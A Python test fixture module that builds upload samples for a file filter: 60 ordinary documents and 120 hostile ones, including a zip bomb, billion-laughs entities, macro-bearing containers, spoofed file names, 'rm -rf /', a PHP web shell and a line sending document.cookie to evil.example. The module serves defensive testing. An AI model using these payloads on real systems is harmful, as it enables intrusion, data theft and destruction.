"""S13: 120 files that nobody should take, and 60 that everybody who asks for their kind should. Made here; none is kept."""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache

import docx
from openpyxl import Workbook
from PIL import Image

from tests.providers.papers import pdf

MEGABYTE = 1024 * 1024
READ_ONLY = ("document", "letter", "pack")  # doors that take the words or the look of a PDF, and nothing that would act


@dataclass(frozen=True)
class File:
    """`harmless_at` are the doors where it may be taken, because nothing there could do what it is made for."""

    name: str
    content: bytes
    harmless_at: tuple[str, ...] = field(default=())

    @property
    def ending(self) -> str:
        return self.name.rpartition(".")[2].lower()


IMPOSTORS = {
    "program": b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode" + bytes(200),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(300),
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "page": b"<!doctype html><html><body><script>alert(1)</script></body></html>",
    "drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "php": b"<?php system($_GET['c']); ?>",
    "rtf": b"{\\rtf1{\\object\\objocx\\objdata 0105}}",
    "gif": b"GIF89a" + bytes(300),
    "seven": b"7z\xbc\xaf\x27\x1c" + bytes(300),
    "gzip": gzip.compress(b"x" * 3000) + bytes(9),
    "old-office": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(900),
    "random": bytes((at * 37 + 11) % 251 for at in range(2000)),
    "javascript": b"fetch('https://evil.example/' + document.cookie)",
    "macho": b"\xcf\xfa\xed\xfe" + bytes(300),
}
BINARY = ("program", "elf", "gif", "seven", "old-office", "macho")
LAUGHS = "".join(f'<!ENTITY {name} "{f"&{inner};" * 10}">' for inner, name in zip("abcdefgh", "bcdefghi", strict=True))
ENTITIES = f'<!DOCTYPE x [<!ENTITY a "ha">{LAUGHS}]><x>&i;</x>'
ROUND_AND_ROUND = b"<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>"
PARTS = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def hostile() -> list[File]:
    found = [*_impostors(), *_archives(), *_papers(), *_empty(), *_large(), *_misnamed()]
    assert len(found) == 120, len(found)
    return found


def _impostors() -> Iterator[File]:
    for what, content in IMPOSTORS.items():
        yield from (File(f"{what}.{ending}", content) for ending in ("pdf", "docx", "xlsx", "pptx", "png"))
    yield from (File(f"{what}.csv", IMPOSTORS[what]) for what in BINARY)


def _archives() -> Iterator[File]:
    for ending, part in PARTS.items():
        yield File(f"bomb.{ending}", zipped({part: b"<x/>", "media/zeros.bin": bytes(310 * MEGABYTE)}))
        yield File(f"parts.{ending}", zipped({part: b"<x/>", **{f"a/{at}": b"" for at in range(6000)}}))
        yield File(f"macros.{ending}", zipped({part: b"<x/>", f"{part.partition('/')[0]}/vbaProject.bin": b"x"}))
        yield File(f"cut.{ending}", whole(ending)[: len(whole(ending)) // 2])
        yield File(f"locked.{ending}", _locked({part: b"<x/>"}))
        yield File(f"entities.{ending}", zipped({part: ENTITIES.encode()}), ("evidence", "whole", "recorded"))


def _papers() -> Iterator[File]:
    yield File("locked.pdf", pdf(password="secret"))
    yield File("script.pdf", pdf(script=True), READ_ONLY)
    yield File("opening.pdf", pdf(script_on_opening=True), READ_ONLY)
    yield File("launch.pdf", pdf(launch=True), READ_ONLY)
    yield File("inside.pdf", pdf(inside=True), READ_ONLY)
    yield File("cut.pdf", b"%PDF-1.7\n1 0 obj\n<<")
    yield File("nothing.pdf", b"%PDF-1.7\n%%EOF")
    yield File("loop.pdf", b"%PDF-1.4\n1 0 obj" + ROUND_AND_ROUND)


def _empty() -> Iterator[File]:
    yield from (File(f"empty.{ending}", b"") for ending in ("pdf", "docx", "xlsx", "pptx", "png", "csv"))
    yield from (File(f"blank.{ending}", b" \r\n\t" * 40) for ending in ("pdf", "docx", "csv"))


def _large() -> Iterator[File]:
    yield from (File(f"large.{ending}", whole(ending) + bytes(41 * MEGABYTE)) for ending in ("pdf", "docx", "xlsx"))


def _misnamed() -> Iterator[File]:
    yield File(f"{'a' * 300}.pdf", whole("pdf"))
    yield File("report.pdf.exe", whole("pdf"))
    yield File("report\u202efdp.exe", whole("pdf"))
    yield File("letter.docm", whole("docx"))
    yield File("letter.scr", whole("docx"))
    yield File("table.com", whole("xlsx"))


# ── Good ones ───────────────────────────────────────────────────────────────────────────────────────────────────────
GOOD = {"pdf": 12, "docx": 12, "xlsx": 10, "csv": 6, "png": 5, "jpg": 5, "odt": 4, "txt": 3, "html": 3}


def good() -> list[File]:
    found = [File(_called(ending, number), whole(ending, number)) for ending, count in GOOD.items() for number in range(count)]
    assert len(found) == 60, len(found)
    return found


def _called(ending: str, number: int) -> str:
    names = ("Plan", "Ymateb", "Réponse 2027", "contract, final", "資料", "a.b.c", "O'Hara", "UPPER")
    return f"{names[number % len(names)]} {number}.{ending.upper() if number == 7 else ending}"


@cache
def whole(ending: str, number: int = 0) -> bytes:
    """A plain one of its kind, each with other words."""
    words = [f"{at}. We will open a hub in ward {number}-{at} by April 2027." for at in range(1, 3 + number)]
    return {"pdf": _pdf, "docx": _docx, "xlsx": _xlsx, "odt": _odt, "png": _picture, "jpg": _picture}.get(ending, _text)(words, ending)


def _pdf(words: list[str], ending: str) -> bytes:
    from weasyprint import HTML

    return bytes(HTML(string="".join(f"<p>{line}</p>" for line in words)).write_pdf())


def _docx(words: list[str], ending: str) -> bytes:
    file, out = docx.Document(), io.BytesIO()
    file.add_heading("Plan", 1)
    for line in words:
        file.add_paragraph(line)
    file.save(out)
    return out.getvalue()


def _xlsx(words: list[str], ending: str) -> bytes:
    book, out = Workbook(), io.BytesIO()
    for line in words:
        book.active.append([line, "Voluntary sector organisation"])
    book.save(out)
    return out.getvalue()


def _odt(words: list[str], ending: str) -> bytes:
    kind = "application/vnd.oasis.opendocument.text"
    names = "".join(f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "text"))
    text = "".join(f"<text:p>{line}</text:p>" for line in words)
    body = f"<office:document-content{names}><office:body><office:text>{text}</office:text></office:body></office:document-content>"
    return zipped({"mimetype": kind.encode(), "content.xml": body.encode()})


def _picture(words: list[str], ending: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20 + len(words), 20), "navy").save(out, "PNG" if ending == "png" else "JPEG")
    return out.getvalue()


def _text(words: list[str], ending: str) -> bytes:
    if ending == "html":
        return f"<html><body>{''.join(f'<p>{line}</p>' for line in words)}</body></html>".encode()
    if ending == "pptx":
        return zipped({"ppt/presentation.xml": b"<x/>", "[Content_Types].xml": b"<x/>"})
    return "\n".join(f"{line},{len(line)}" if ending == "csv" else line for line in words).encode()


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return out.getvalue()


def _locked(parts: dict[str, bytes]) -> bytes:
    """With the mark of a password on each part, as its list has it."""
    content = bytearray(zipped(parts))
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        where = content.find(sign)
        while where >= 0:
            content[where + at] |= 1
            where = content.find(sign, where + 4)
    return bytes(content)
